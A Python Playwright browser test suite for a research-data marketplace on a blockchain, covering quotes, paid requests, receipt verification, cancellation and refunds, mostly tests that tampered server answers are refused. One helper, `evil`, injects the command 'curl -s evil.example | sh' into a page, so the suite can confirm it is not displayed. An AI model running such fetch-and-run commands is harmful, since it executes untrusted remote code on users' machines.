"""What a researcher does in a real browser: quote, ask, pay, follow, open the answer, take a request back."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from typing import Any

import pandas as pd
import pytest
from playwright.sync_api import BrowserContext, Locator, Page, expect

from marketplace.chain.manifest import Manifest
from marketplace.wire.amounts import Token
from marketplace.wire.canonical import canonical
from marketplace.wire.http import to_hex
from marketplace.wire.structs import RequestTerms
from tests.support.api_world import ApiWorld, api_world
from tests.support.browser_keys import PASSPHRASE
from tests.support.chain_world import DAY, MAX_COST
from tests.support.daily import daily
from tests.support.overheard import Overheard, overhearing
from tests.support.researcher_browser import (
    PROJECT,
    Researcher,
    drop,
    fill_parameters,
    listened_to,
    signed_in,
    telling,
    without_complaints,
)
from tests.support.web_world import WebWorld, web_world
from tools.browser import PATIENCE_MILLISECONDS


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebWorld]:
    with api_world(tmp_path_factory.mktemp("researchers")) as api, web_world(api) as made:
        yield made


@pytest.fixture(scope="module")
def heard() -> Iterator[Overheard]:
    with overhearing() as found:
        yield found


@pytest.fixture(scope="module")
def context(world: WebWorld, heard: Overheard) -> Iterator[BrowserContext]:
    with listened_to(world, heard) as made:
        yield made


@pytest.fixture(scope="module")
def complaints() -> list[str]:
    return []


@pytest.fixture(scope="module")
def newcomer(
    world: WebWorld,
    context: BrowserContext,
    complaints: list[str],
    heard: Overheard,
    tmp_path_factory: pytest.TempPathFactory,
) -> Researcher:
    return signed_in(world, context, complaints, heard, tmp_path_factory.mktemp("keys"))


@pytest.fixture
def researcher(newcomer: Researcher, complaints: list[str]) -> Iterator[Researcher]:
    with without_complaints(newcomer, complaints) as found:
        yield found


# --- before anything is paid


@pytest.mark.long
def test_a_quote_follows_the_cost_and_the_error_in_both_directions(researcher: Researcher) -> None:
    page = researcher.build()
    page.select_option("#analysis", "mean.v1")
    fill_parameters(page, "mean.v1")
    page.locator("#classes input").first.check()
    page.fill("#cost", "10000")
    expect(page.locator("#target_error")).not_to_have_value("")
    asked: dict[str, Any] = {
        "analysis": "mean.v1",
        "dataset": researcher.api.dataset,
        "classes": [1],
    }
    asked["parameters"] = {"variable": "systolic", "clip": ["80", "200"]}
    wide = researcher.api.operator.reads.quote({**asked, "cost": 10_000})
    assert page.input_value("#target_error") == wide["expected_error"]["half_width"]
    expect(page.locator("#quote")).to_contain_text("Such a result tells nothing")
    expect(page.locator("#quote")).to_contain_text(wide["odds"]["right_at_most"])
    page.fill("#target_error", "50")
    expect(page.locator("#target_error-error")).to_contain_text("No privacy cost makes the error")
    page.fill("#target_error", "100")
    narrow = researcher.api.operator.reads.quote({**asked, "target_error": "100"})
    expect(page.locator("#cost")).to_have_value(str(narrow["cost_nano_rho"]))
    assert narrow["cost_nano_rho"] > MAX_COST
    expect(page.locator("#quote")).to_contain_text("It cannot be bought like this")
    expect(page.locator("#ceiling")).to_be_hidden()
    page.fill("#cost", "10000")
    page.select_option("#filter1_variable", "smoker")
    page.select_option("#filter1_op", "==")
    page.fill("#filter1_value", "no")
    expect(page.locator("#quote")).to_contain_text("If only a tenth of them")


@pytest.mark.long
def test_what_cannot_be_asked_is_said_at_its_field_and_what_was_typed_stays(
    researcher: Researcher,
) -> None:
    page = researcher.build()
    page.select_option("#analysis", "mean.v1")
    page.select_option("#variable", "systolic")
    page.locator("#classes input").first.check()
    page.fill("#cost", "10000")
    page.fill("#clip_lower", "80")
    page.fill("#clip_upper", "900")
    expect(page.locator("#clip_upper-error")).to_have_text(
        "“Clip above” is outside the bounds of “Systolic blood pressure”. Give a value from 60 to 260 mmHg."
    )
    expect(page.locator("#clip_upper")).to_be_focused()  # nobody is led away while typing
    page.fill("#clip_upper", "200")
    expect(page.locator("#quote .facts")).to_be_visible()
    assert page.locator("#clip_upper-error").count() == 0
    page.select_option("#filter1_variable", "smoker")
    page.select_option("#filter1_op", "==")
    page.fill("#filter1_value", "perhaps")
    expect(page.locator("#filter1_value-error")).to_contain_text("not a category")
    page.reload()
    expect(page.locator("#filter1_value")).to_have_value("perhaps")
    expect(page.locator("#clip_lower")).to_have_value("80")
    page.fill("#filter1_value", "no")
    page.fill("#months", "soon")
    expect(page.locator("#months-error")).to_contain_text("no number of months")
    expect(page.locator("#quote")).to_contain_text("No quote")
    expect(page.locator("#decisions")).not_to_contain_text("live consents")
    page.fill("#months", "")
    expect(page.locator("#quote .facts")).to_be_visible()
    page.fill("#clip_lower", "210")
    expect(page.locator("#clip_lower-error")).to_have_text(
        "“Clip below” is not below “Clip above”. Write the smaller number first."
    )
    page.fill("#clip_lower", "80")
    for field, typed, remedy in (
        ("cost", "30.000.000", f"such as 30000000; class 1 allows at most {MAX_COST:,}."),
        ("target_error", "5,5", "Write it with a point and no commas, such as 120.5."),
    ):
        page.fill(f"#{field}", typed)
        expect(page.locator(f"#{field}-error")).to_contain_text(remedy)


@pytest.mark.long
def test_a_visitor_sees_who_permits_it_to_such_a_researcher_and_half_of_one_is_refused_at_its_field(
    world: WebWorld, context: BrowserContext, complaints: list[str]
) -> None:
    assert context.browser is not None
    with context.browser.new_context(base_url=world.url) as visitor:
        visitor.set_default_timeout(PATIENCE_MILLISECONDS)
        page = visitor.new_page()
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.goto(f"/ask?dataset={world.api.dataset}")
        decisions = page.locator("#decisions")
        expect(decisions).to_contain_text("Choose a kind of organisation and a country")
        page.select_option("#kind", "1")
        expect(page.locator("#country-error")).to_contain_text("Choose the country, too.")
        expect(decisions).not_to_contain_text("live consents permit it")
        page.select_option("#country", "DE")
        expect(decisions).to_contain_text("4 live consents permit it")
        page.select_option("#kind", "")
        expect(page.locator("#kind-error")).to_contain_text("Choose a kind of organisation, too.")
        page.select_option("#country", "")
        expect(decisions).to_contain_text("Choose a kind of organisation and a country")
    assert complaints == []


@pytest.mark.long
def test_only_what_an_analysis_takes_is_offered_and_the_quote_reads_as_the_form_does(
    researcher: Researcher,
) -> None:
    page = researcher.question("histogram.v1", 900_000)
    page.select_option("#variable", "smoker")
    page.select_option("#analysis", "mean.v1")
    expect(page.locator('#variable option[value="smoker"]')).to_be_disabled()
    assert page.input_value("#variable") == ""
    page.select_option("#variable", "systolic")
    shown = page.locator("#quote .facts")
    expect(shown).to_contain_text("Variable: Systolic blood pressure")
    expect(shown).to_contain_text("mmHg either way")


@pytest.mark.long
def test_the_panel_tells_every_class_and_a_ceiling_is_agreed_to_anew_when_it_changes(
    researcher: Researcher,
) -> None:
    page = researcher.build()
    expect(page.locator("#decisions")).to_contain_text("Permitted")
    expect(page.locator("#decisions")).to_contain_text("general research use")
    page.get_by_label("Biomedical research").check()
    expect(page.locator("#decisions")).to_contain_text("For biomedical research")
    page.select_option("#analysis", "mean.v1")
    page.select_option("#variable", "systolic")
    page.locator("#classes input").first.check()
    page.fill("#cost", "10000")
    expect(page.locator("#ceiling")).to_be_visible()
    assert page.locator("#ceiling input:checked").count() == 0
    page.get_by_role("button", name="Ask and pay").click()
    expect(page.locator("form.ask")).to_contain_text("You have not agreed")
    page.locator("#ceiling input").check()
    page.fill("#cost", "900000")
    expect(page.locator("#quote")).to_contain_text("900,000 nano-rho")
    expect(page.locator("#ceiling")).to_be_visible()
    assert page.locator("#ceiling input:checked").count() == 0
    assert researcher.violations() == []


@pytest.mark.long
def test_what_a_chosen_class_does_not_permit_is_not_offered_and_the_reason_stands_instead(
    researcher: Researcher,
) -> None:
    page = researcher.question()
    button, care = (
        page.get_by_role("button", name="Ask and pay"),
        page.get_by_label("With clinical care of patients"),
    )
    expect(page.locator("#ceiling")).to_be_visible()
    care.check()
    expect(page.locator("#hindrance")).to_contain_text("It is not permitted by class 1.")
    expect(button).to_be_hidden()
    expect(page.locator("#ceiling")).to_be_hidden()
    page.locator("#cost").press("Enter")  # a form is handed in without its button, too
    expect(page.locator("#classes-error")).to_contain_text("It is not permitted by class 1.")
    assert researcher.violations() == []
    care.uncheck()
    expect(button).to_be_visible()
    expect(page.locator("#ceiling")).to_be_visible()
    expect(page.locator("#hindrance")).to_be_empty()


def test_a_quote_that_does_not_follow_from_the_question_is_never_paid(
    researcher: Researcher,
) -> None:
    """An operator that asks for more than the classes' floor, or takes the question in as another's."""
    page, api = researcher.page, researcher.api
    for name in ("price_per_member", "fee", "parameters_hash"):
        lying(page, "**/ask/quote", name)
        page = researcher.question()
        expect(page.locator("form.ask")).to_contain_text("The operator's quote names another")
        expect(page.locator("#ceiling")).to_be_hidden()
        page.unroute("**/ask/quote")
    page = researcher.question()
    expect(page.locator("#ceiling")).to_be_visible()
    held = api.operator.chain.balance_of(api.researcher.address)
    lying(page, "**/ask/requests", "request")
    page.locator("#ceiling input").check()
    page.get_by_role("button", name="Ask and pay").click()
    expect(page.locator("form.ask")).to_contain_text("not the hash of its terms")
    page.unroute("**/ask/requests")
    assert api.operator.chain.balance_of(api.researcher.address) == held
    assert page.locator("#ceiling input:checked").count() == 1  # nothing that was said is lost


def test_no_amount_is_shown_by_the_word_of_a_page_alone(researcher: Researcher) -> None:
    """Not in a token that this browser does not know, nor of variables that the chain has otherwise."""
    page = researcher.page
    busy = {"code": "busy", "detail": "This process is at work for others.", "remedy": "Ask again."}
    page.route("**/deployment", lambda route: route.fulfill(status=503, json=busy))
    page = researcher.question()
    expect(page.locator("form.ask")).to_contain_text("at work for others")
    expect(page.locator("#quote")).to_contain_text("No quote")
    expect(page.locator("#ceiling")).to_be_hidden()
    page.unroute("**/deployment")
    page.fill("#cost", "20000")
    expect(page.locator("#ceiling")).to_be_visible()
    page.route("**/ask?dataset=*", mislabelled)
    page = researcher.question()
    expect(page.locator("form.ask")).to_contain_text("not the one on chain")
    expect(page.locator("#ceiling")).to_be_hidden()
    page.unroute("**/ask?dataset=*")


def mislabelled(route: Any) -> None:
    response = route.fetch()
    body = response.text().replace("Systolic", "Diastolic")
    assert "Diastolic" in body
    route.fulfill(response=response, body=body)


def lying(page: Page, path: str, name: str) -> None:
    """Has the server's answer name something else."""

    def change(told: Any) -> None:
        value = told[name]
        told[name] = f"0x{'ab' * 32}" if isinstance(value, str) else value + 1

    telling(page, path, change)


# --- asking


def test_a_question_is_paid_followed_and_opened_and_its_numbers_are_those_that_python_opens(
    researcher: Researcher,
) -> None:
    page, request = researcher.page, researcher.ask()
    chain = researcher.api.operator.chain
    assert chain.request(bytes.fromhex(request[2:])).stage.name == "OPENED"
    expect(page.locator("#result")).to_be_hidden()
    researcher.api.settle(request)
    expect(page.locator("#state")).to_contain_text("Settled")
    view = chain.request(bytes.fromhex(request[2:]))
    expect(page.locator("#money-title")).to_have_text("Paid in all")
    cost = Token().amount(view.members * view.price + view.fee)
    expect(page.locator("#money")).to_contain_text(f"{cost}; ")
    expect(page.locator("#plot svg.strip")).to_be_visible()
    opened, receipt = researcher.opened(request)
    noised: Any = opened.document["noised"]
    [estimate] = noised["estimates"]
    for told in (page.locator("#plot figcaption"), page.locator("#numbers")):
        for name in ("value", "low", "high"):
            expect(told).to_contain_text(estimate[name])
    expect(page.locator("#result")).to_contain_text("sampling")
    lowest, highest = opened.document["parameters"]["clip"]
    spans = float(estimate["low"]) <= float(lowest) and float(estimate["high"]) >= float(highest)
    said = expect(page.locator("#answer"))  # by the noise, mostly so
    (said.to_contain_text if spans else said.not_to_contain_text)("This tells nothing")
    assert page.locator("#checks .badge").all_text_contents() == ["Holds"] * 11
    table = researcher.saved("Save as CSV").decode()
    head, row = csv.reader(table.splitlines())
    assert list(pd.read_csv(io.StringIO(table)).columns) == head
    numbers = [estimate["value"], estimate["low"], estimate["high"], noised["unit"]]
    assert (head[:4], row[:4]) == (["estimate", "lower", "upper", "unit"], numbers)
    about = dict(zip(head[4:], row[4:], strict=True))
    assert "Variable: Systolic blood pressure" in about.pop("question")
    filters: Any = opened.document["parameters"]["filters"]
    assert bool(about.pop("condition")) == bool(filters)
    assert about == {
        "unit_as_written": "mmHg",
        "level": "0.95",
        "analysis": "mean.v1",
        "cohort_size": str(opened.document["cohort_size"]),
        "request": request,
    }
    group = "The group had 4 patients; the answer" if filters else "Counted: 4 patients."
    expect(page.locator("#answer")).to_contain_text(group)
    assert researcher.saved("Save as JSON") == opened.result
    assert researcher.saved("Save the receipt") == canonical(receipt)
    assert researcher.violations() == []
    for secret in (opened.result, opened.salt, estimate["low"], PASSPHRASE, PROJECT):
        assert researcher.heard.carrying(secret) == []
    assert researcher.heard.carrying(request)  # what is public is heard: the ear works


def test_an_opening_that_failed_in_its_block_holds_up_nobody(researcher: Researcher) -> None:
    """With too little gas, by the operator's word, it is mined and fails; its number is used up."""
    chain, account = researcher.api.operator.chain, researcher.api.researcher.address
    telling(researcher.page, "**/transactions/ways", lambda told: told.update(gas=told["gas"] // 2))
    page = researcher.question()
    expect(page.locator("#ceiling")).to_be_visible()
    page.locator("#ceiling input").check()
    held, number = chain.balance_of(account), chain.node.transaction_count(account)
    page.get_by_role("button", name="Ask and pay").click()
    expect(page.locator("form.ask")).to_contain_text("at most one of them is paid")
    assert chain.node.transaction_count(account) == number + 1
    assert chain.balance_of(account) == held
    page.unroute("**/transactions/ways")
    page.get_by_role("button", name="Ask and pay").click()
    page.wait_for_url("**/my/requests/0x*")
    terms = chain.request_terms(bytes.fromhex(researcher.request[2:]))
    assert chain.balance_of(account) == held - terms.escrow


ALL_AT_ONCE = """async () => {
  const {name} = performance.getEntriesByType('resource').find(({name}) => /keystore[^/]*[.]js/.test(name));
  const {changeOpenings} = await import(name);
  const own = {chainId: 1, market: 'none', account: 'nobody'};
  const more = (now) => ({count: (now?.count ?? 0) + 1});
  await Promise.all(Array.from({length: 20}, () => changeOpenings(own, more)));
  const no = () => { throw new RangeError('no'); };
  const refused = await changeOpenings(own, no).catch((error) => error.name);
  const {count} = await changeOpenings(own, (now) => now);
  return [count, refused, await changeOpenings(own, () => null), await changeOpenings(own, (now) => now)];
}"""


def test_what_is_changed_at_once_in_this_browser_is_changed_one_by_one(
    researcher: Researcher,
) -> None:
    assert researcher.build().evaluate(ALL_AT_ONCE) == [20, "RangeError", None, None]


@pytest.mark.parametrize("analysis", daily(["histogram.v1", "cross_table.v1"], ["cross_table.v1"]))
def test_tables_are_drawn_cell_by_cell_and_open_again_on_another_day(
    researcher: Researcher, analysis: str
) -> None:
    page, request = researcher.page, researcher.ask(analysis, MAX_COST)
    researcher.api.settle(request)
    page.goto(f"/my/requests/{request}")
    opened, _ = researcher.opened(request)
    noised: Any = opened.document["noised"]
    estimates = noised["estimates"]
    expect(page.locator("#plot svg.strip")).to_have_count(len(estimates))
    cells = page.locator("#numbers tbody tr")
    assert [row.locator("td").first.text_content() for row in cells.all()] == [
        each["value"] for each in estimates
    ]
    assert researcher.violations() == []


def test_an_answer_that_is_not_what_the_chain_says_is_never_shown(researcher: Researcher) -> None:
    page, api = researcher.page, researcher.api
    request = researcher.settled()
    found = api.operator.chain.request(bytes.fromhex(request[2:])).result_hash.hex()

    def lie(route: Any) -> None:
        response = route.fetch()
        route.fulfill(response=response, body=response.text().replace(found, "ab" * 32))

    page.route("**/my/requests/*", lie)
    page.goto(f"/my/requests/{request}")
    expect(page.locator("#result")).to_contain_text("not the one that custodians signed")
    page.unroute("**/my/requests/*")
    expect(page.locator("#opened")).to_be_hidden()


# --- by keyboard alone

FOCUS = """() => {
  const at = document.activeElement;
  const seen = [at, at.closest(".choice")].filter(Boolean);
  const box = at.getBoundingClientRect();
  return {
    what: at.id || at.textContent.trim().slice(0, 40),
    body: at === document.body,
    ring: seen.some((each) => getComputedStyle(each).outlineStyle !== "none"),
    inside: box.bottom > 0 && box.top < innerHeight && box.right > 0 && box.left < innerWidth,
  };
}"""
MOST_STEPS = 150


def tab_to(page: Page, wanted: Locator, key: str = "Tab") -> None:
    """By Tab or Shift+Tab; whatever has the focus on the way can be seen to have it."""
    for _ in range(MOST_STEPS):
        page.keyboard.press(key)
        at = page.evaluate(FOCUS)
        assert at["body"] or (at["ring"] and at["inside"]), at
        if wanted.evaluate("each => each === document.activeElement"):
            return
    raise AssertionError(f"{wanted} is not reached by {key}")


def follow_link(page: Page, wanted: Locator, url: str) -> None:
    tab_to(page, wanted)
    page.keyboard.press("Enter")
    page.wait_for_url(url)


@pytest.mark.long
def test_a_question_is_found_asked_paid_and_its_answer_saved_by_keyboard_alone(
    researcher: Researcher,
) -> None:
    page, api = researcher.build(), researcher.api
    api.custody.tick()
    page.goto("/datasets")
    here = page.locator(f'main a[href="/datasets/{api.dataset}"]').first
    follow_link(page, here, "**/datasets/0x*")
    ask = page.locator(f'main a[href="/ask?dataset={api.dataset}"]').first
    follow_link(page, ask, "**/ask?dataset=*")
    for name, typed in (
        ("#analysis", "Mean"),
        ("#variable", "Systolic"),
        ("#clip_lower", "80"),
        ("#clip_upper", "200"),
        ("input[name=uses][value='6']", " "),
        ("#project", PROJECT),
        ("#classes input", " "),
        ("#cost", "10000"),
    ):
        tab_to(page, page.locator(name).first)
        page.keyboard.type(typed)
    expect(page.locator("#ceiling")).to_be_visible()
    tab_to(page, page.locator("#classes input").first, "Shift+Tab")
    expect(page.locator("#classes input").first).to_be_checked()
    tab_to(page, page.get_by_role("button", name="Ask and pay"))
    page.keyboard.press("Enter")  # not agreed yet: led to what is missing
    expect(page.locator("#ceiling input")).to_be_focused()
    page.keyboard.press("Space")
    tab_to(page, page.get_by_role("button", name="Ask and pay"))
    page.keyboard.press("Enter")
    page.wait_for_url("**/my/requests/0x*")
    api.settle(researcher.request)
    expect(page.locator("#plot svg.strip")).to_be_visible()
    tab_to(page, page.get_by_role("button", name="Save the receipt"))
    tab_to(page, page.get_by_role("button", name="Save as CSV"), "Shift+Tab")
    with page.expect_download() as saved:
        page.keyboard.press("Enter")
    assert saved.value.suggested_filename.endswith(".csv")


# --- what a receipt proves


def test_a_receipt_is_verified_where_it_is_dropped_and_a_false_one_is_refused_at_its_field(
    researcher: Researcher,
) -> None:
    page, api = researcher.page, researcher.api
    request = researcher.settled()
    receipt: Any = api.operator.reads.receipt(request).receipt
    page.goto("/verify")
    drop(page, canonical(receipt))
    expect(page.locator("#verdict")).to_contain_text("It holds together, and agrees")
    expect(page.locator("#verdict")).to_be_focused()
    assert page.locator("#alone .badge").all_text_contents() == ["Holds"] * 8
    assert set(page.locator("#anchored .badge").all_text_contents()) == {"Agrees"}
    expect(page.locator("#states")).to_contain_text(request)
    expect(page.locator("pre").first).to_contain_text("verify-receipt receipt-12ab.json --node")
    expect(page.locator("#sums")).to_be_hidden()
    manifest = researcher.saved("Save this operator's manifest")
    assert Manifest.from_json(json.loads(manifest)) == api.operator.chain.manifest
    assert researcher.violations() == []
    assert researcher.heard.carrying(receipt["sealed_result"][:60]) == []  # it stays here
    for lie, verdict in (
        (lambda told: told["receipt"].update(genesis_hash=f"0x{'ab' * 32}"), "Do not rely on it"),
        (lambda told: told["receipt"].pop("signatures"), "Not decided here"),
        (lambda told: told.update(final=False), "Not decided here"),
    ):
        telling(page, "**/verify/0x*", lie)
        with page.expect_response("**/verify/0x*"):
            page.get_by_role("button", name="Verify").click()
        # Hidden at the press, with the verdict before still in it.
        expect(page.locator("#found")).to_be_visible()
        expect(page.locator("#verdict")).to_contain_text(verdict)
        page.unroute_all(behavior="wait")
    spoilt = {**receipt, "cost": str(int(receipt["cost"]) + 1)}
    elsewhere = {**receipt, "chain_id": receipt["chain_id"] + 1}
    for content, why in (
        (canonical(spoilt), "cost differs from its other mention"),
        (canonical(elsewhere), "is not the hash of the terms"),
        (b"not JSON", "cannot be read"),
        (b"{" + b" " * (10 << 20), "has at most 10,485,760"),
    ):
        drop(page, content)
        expect(page.locator("#receipt-error")).to_contain_text(why)
        expect(page.locator("#found")).to_be_hidden()


@pytest.mark.long
def test_a_late_word_about_one_receipt_does_not_stand_beside_the_next(
    researcher: Researcher,
) -> None:
    page, api = researcher.page, researcher.api
    receipt: Any = api.operator.reads.receipt(researcher.settled()).receipt
    page.goto("/verify")
    held: list[Any] = []
    page.route("**/verify/0x*", lambda route: held.append(route))
    with page.expect_request("**/verify/0x*"):
        drop(page, canonical(receipt))
    drop(page, canonical({**receipt, "cost": "7"}))
    expect(page.locator("#receipt-error")).to_contain_text("cost differs from its other mention")
    with page.expect_response("**/verify/0x*"):
        held[0].continue_()
    page.evaluate(
        "() => new Promise((done) => setTimeout(done, 1000))"
    )  # in which it would be shown
    expect(page.locator("#found")).to_be_hidden()
    expect(page.locator("#receipt-error")).to_be_visible()


# --- taking it back


@pytest.mark.long
def test_a_request_is_cancelled_before_the_freeze_and_the_escrow_comes_back_and_is_paid_out(
    researcher: Researcher,
) -> None:
    page, api = researcher.page, researcher.api
    request = researcher.ask()
    before = researcher.credit
    terms = api.operator.chain.request_terms(bytes.fromhex(request[2:]))
    page.reload()
    cancel = page.get_by_role("button", name="Cancel this request")
    expect(cancel).to_have_attribute("data-kind", "primary")  # red is for what takes something away
    cancel.click()
    # What the stream tells of it says “Cancelled”, too, while the page still waits for its transaction.
    expect(page.locator("#said")).to_contain_text("Cancelled. The chain shows it")
    expect(page.locator("#said")).to_contain_text("your credit now")
    assert researcher.credit == before + terms.escrow
    page.goto("/my")
    expect(page.locator("main")).to_contain_text(request[2:8])
    assert researcher.violations() == []
    expect(page.locator("#to")).to_have_value(api.researcher.address)
    balance = api.operator.chain.balance_of(api.researcher.address)
    page.get_by_role("button", name="Withdraw").click()
    expect(page.locator("#said")).to_contain_text("Paid out")
    assert researcher.credit == 0
    paid = api.operator.chain.balance_of(api.researcher.address) - balance
    assert paid == before + terms.escrow


@pytest.mark.long
def test_whoever_has_no_keys_for_an_answer_is_told_so(researcher: Researcher) -> None:
    """Another's request, asked on the command line with another delivery key."""
    api, page = researcher.api, researcher.page
    market = api.operator.chain.market
    api.custody.sender.send("TestEuro", "approve", market, 10**12)  # a permit took its place
    terms = api.terms("elsewhere")
    body = {"terms": terms.to_json(), "parameters": {"variable": "systolic"}}
    request = api.post_signed(body).get_json()["request"]
    api.custody.open(terms)
    api.custody.tick()
    api.settle(request)
    page.goto(f"/my/requests/{request}")
    expect(page.locator("#result")).to_contain_text(re.compile("keys in this browser do not make"))
    expect(page.locator("#opened")).to_be_hidden()
    expect(page.locator("#elsewhere")).to_be_hidden()  # there is no key to save


# --- what ended without an answer. The chain's clock moves on by days here: these come last.


def pass_deadline(api: ApiWorld) -> None:
    api.custody.chain.node.request("evm_increaseTime", [DAY + 10])
    api.custody.chain.node.mine()


def submitted(api: ApiWorld, salt: str) -> tuple[RequestTerms, bytes]:
    """Known to the operator, and opened by its researcher; nobody works on it."""
    terms = api.terms(salt)
    body = {"terms": terms.to_json(), "parameters": {"variable": "systolic"}}
    assert api.post_signed(body).status_code == 200
    return terms, api.custody.open(terms)


@pytest.mark.long
def test_what_is_held_for_a_request_without_an_answer_comes_back_by_a_button_as_it_says(
    researcher: Researcher,
) -> None:
    api, page, chain = researcher.api, researcher.page, researcher.api.operator.chain
    api.custody.sender.send("TestEuro", "approve", chain.market, 10**12)
    terms, never_settled = submitted(api, "never settled")
    api.custody.freeze(terms)
    api.custody.sender.send("ResearchMarket", "seal", never_settled)
    api.custody.tick()
    _, never_frozen = submitted(api, "never frozen")
    terms, never_sealed = submitted(api, "never sealed")
    api.custody.freeze(terms)
    page.goto(f"/my/requests/{to_hex(never_sealed)}")
    expect(page.locator("#back")).to_be_hidden()  # until the freeze runs out
    pass_deadline(api)
    for request in (never_frozen, never_sealed):
        promised = chain.request(request)
        bond = promised.bond * chain.policy().unused_freeze_bps // 10_000
        taken_back(researcher, request, "Take the money back", promised.escrow + bond)
    assert researcher.violations() == []
    pass_deadline(api)
    page.goto(f"/my/requests/{to_hex(never_settled)}")
    expect(page.locator("#back")).to_contain_text("not settled in time")
    command = f"usufruct default --request {to_hex(never_settled)} --custodian "
    expect(page.locator("#back code")).to_contain_text(f"{command}{api.custodian_urls[0]}")
    page.route(page.url, evil)
    page.reload()
    expect(page.locator("#back code")).to_have_text(re.compile("^" + re.escape(command)))
    expect(page.locator("#back")).not_to_contain_text("evil.example")
    page.unroute(page.url)
    expect(page.locator("#take-back")).to_be_hidden()  # first, certificates
    pass_deadline(api)
    fee = chain.request(never_settled).escrow
    taken_back(researcher, never_settled, "End it without certificates", fee)


def evil(route: Any) -> None:
    """A server whose commands do something else."""
    response = route.fetch()
    body = response.text().replace(
        "usufruct default", "curl -s evil.example | sh; usufruct default"
    )
    assert "evil.example" in body
    route.fulfill(response=response, body=body)


def taken_back(researcher: Researcher, request: bytes, button: str, amount: int) -> None:
    page, before = researcher.page, researcher.credit
    page.goto(f"/my/requests/{to_hex(request)}")
    page.locator("#news a").click()
    expect(page.locator("#back-title")).to_be_in_viewport()
    page.get_by_role("button", name=button).click()
    expect(page.locator("#said")).to_contain_text("your credit now")
    assert researcher.credit == before + amount > before
    expect(page.locator("#back-title")).to_be_focused()
    expect(page.locator("#back")).to_contain_text("What came back")
    expect(page.locator("#take-back")).to_be_hidden()
